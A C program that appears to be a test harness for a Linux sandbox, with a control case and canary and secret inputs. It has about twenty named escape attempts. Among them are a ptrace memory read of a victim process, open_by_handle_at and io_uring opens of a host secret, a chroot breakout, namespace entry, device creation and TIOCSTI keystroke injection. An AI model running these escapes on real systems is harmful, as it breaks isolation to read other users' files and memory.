/* Attacks by system calls that widen what a process can reach.
 *
 * Ends with 0 if it got out; what it could read goes to its output. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/perf_event.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/klog.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *secret(void) {
    static char path[4096];
    snprintf(path, sizeof path, "%s/secret", getenv("HOST"));
    return path;
}

static pid_t victim(void) { return atoi(getenv("VICTIM")); }

/* Prints what a descriptor holds. */
static int show(int file) {
    char text[4096];
    ssize_t length = file < 0 ? -1 : read(file, text, sizeof text);
    return length <= 0 || fwrite(text, 1, length, stdout) != (size_t)length;
}

/* Shows that this program runs at all. */
static int control(void) { return 0; }

/* Attaches, reads the canary word by word, and lets go. */
static int trace(void) {
    uint64_t place = strtoull(getenv("PLACE"), NULL, 10);
    if (ptrace(PTRACE_ATTACH, victim(), 0, 0) != 0) return 1;
    waitpid(victim(), NULL, __WALL);
    for (int at = 0; at < 64; at += 8) {
        long word = ptrace(PTRACE_PEEKDATA, victim(), place + at, 0);
        fwrite(&word, 1, sizeof word, stdout);
    }
    return ptrace(PTRACE_DETACH, victim(), 0, 0) != 0;
}

/* Opens a file by its handle, for which no directory has to be passed. */
static int by_handle(void) {
    struct { struct file_handle head; char rest[128]; } handle = {.head.handle_bytes = 128};
    int mount, root = open(getenv("HOST"), O_RDONLY | O_DIRECTORY);
    if (name_to_handle_at(AT_FDCWD, secret(), &handle.head, &mount, 0) != 0) return 1;
    return show(open_by_handle_at(root, &handle.head, O_RDONLY));
}

/* Has the kernel open and read the secret, with no such call of this process's own. */
static int ring(void) {
    struct io_uring_params about = {0};
    int ring = syscall(SYS_io_uring_setup, 4, &about);
    if (ring < 0) return 1;
    size_t room = 1 << 16;
    char *queue = mmap(NULL, room, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    struct io_uring_sqe *entries = mmap(NULL, room, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
    if (queue == MAP_FAILED || entries == MAP_FAILED) return 1;
    entries[0].opcode = IORING_OP_OPENAT;
    entries[0].fd = AT_FDCWD;
    entries[0].addr = (uint64_t)secret();
    entries[0].open_flags = O_RDONLY;
    *(unsigned *)(queue + about.sq_off.array) = 0;
    __atomic_store_n((unsigned *)(queue + about.sq_off.tail), 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 1) return 1;
    struct io_uring_cqe *ended = (struct io_uring_cqe *)(queue + about.cq_off.cqes);
    return show(ended[0].res);
}

static int map_of_kernel(void) {
    union bpf_attr about = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1};
    return syscall(SYS_bpf, BPF_MAP_CREATE, &about, sizeof about) < 0;
}

static int count_events(void) {
    struct perf_event_attr about = {.type = PERF_TYPE_SOFTWARE, .size = sizeof about, .config = PERF_COUNT_SW_TASK_CLOCK};
    return syscall(SYS_perf_event_open, &about, victim(), -1, -1, 0) < 0;
}

static int stop_at_page(void) { return syscall(SYS_userfaultfd, O_CLOEXEC | 1) < 0; }

/* A child in a user namespace, by the call whose flags no filter sees. */
static int clone_user(void) {
    uint64_t arguments[11] = {CLONE_NEWUSER, 0, 0, 0, SIGCHLD};
    long pid = syscall(SYS_clone3, arguments, sizeof arguments);
    if (pid == 0) _exit(0);
    return pid < 0;
}

static int mount_over(void) {
    if (mount("none", "/mnt", "tmpfs", 0, NULL) != 0) return 1;
    return umount("/mnt");
}

/* The same by the newer calls. */
static int mount_anew(void) {
    int context = syscall(SYS_fsopen, "tmpfs", 0);
    if (context < 0) return 1;
    return syscall(SYS_fsconfig, context, 6, NULL, NULL, 0) != 0;
}

/* Out of a root that has the working directory outside. */
static int change_root(void) {
    if (mkdir("jail", 0700) != 0 && errno != EEXIST) return 1;
    if (chroot("jail") != 0) return 1;
    for (int at = 0; at < 64; at++) if (chdir("..") != 0) return 1;
    if (chroot(".") != 0) return 1;
    return show(open(secret(), O_RDONLY));
}

static int device(void) {
    unlink("disk");
    if (mknod("disk", S_IFBLK | 0600, makedev(254, 0)) != 0) return 1;
    return unlink("disk");
}

/* What removes a file of a lower layer; needs no right. */
static int whiteout(void) {
    unlink("white");
    if (mknod("white", S_IFCHR | 0600, makedev(0, 0)) != 0) return 1;
    return unlink("white");
}

static int kernel_log(void) { char text[512]; return klogctl(3, text, sizeof text) < 0; }

static int enter(const char *kind) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/ns/%s", victim(), kind);
    return setns(open(path, O_RDONLY), 0) != 0;
}
static int enter_network(void) { return enter("net"); }

static int set_name(void) {
    char name[256];
    return gethostname(name, sizeof name) != 0 || sethostname(name, strlen(name)) != 0;
}

static int set_clock(void) {
    struct timespec now;
    return clock_gettime(CLOCK_REALTIME, &now) != 0 || clock_settime(CLOCK_REALTIME, &now) != 0;
}

static int become_somebody(void) { return setgid(2) != 0 || setuid(2) != 0 || getuid() != 2; }
static int give_away(void) { close(open("given", O_CREAT | O_RDWR, 0600)); return chown("given", 2, 2); }
static int all_files(void) { return syscall(SYS_fanotify_init, 0, 0) < 0; }
static int accounting(void) { return syscall(SYS_acct, NULL) != 0; }

static int type_letters(void) {
    int terminal = open("/dev/ptmx", O_RDWR | O_NOCTTY);
    if (terminal < 0) return 1;
    unlockpt(terminal);
    setsid();
    int inside = open(ptsname(terminal), O_RDWR);
    char letter = 'x';
    return inside < 0 || ioctl(inside, TIOCSTI, &letter) != 0;
}

static const struct { const char *name; int (*attack)(void); } attacks[] = {
    {"trace", trace}, {"by_handle", by_handle}, {"ring", ring}, {"map_of_kernel", map_of_kernel},
    {"count_events", count_events}, {"stop_at_page", stop_at_page}, {"clone_user", clone_user},
    {"mount_over", mount_over}, {"mount_anew", mount_anew}, {"change_root", change_root},
    {"device", device}, {"whiteout", whiteout}, {"control", control},
    {"kernel_log", kernel_log}, {"enter_network", enter_network}, {"set_name", set_name},
    {"set_clock", set_clock}, {"become_somebody", become_somebody}, {"give_away", give_away},
    {"all_files", all_files}, {"accounting", accounting},
    {"type_letters", type_letters},
};

int main(int count, char **words) {
    for (size_t at = 0; count == 2 && at < sizeof attacks / sizeof *attacks; at++)
        if (strcmp(words[1], attacks[at].name) == 0) return attacks[at].attack() != 0;
    return 2;
}
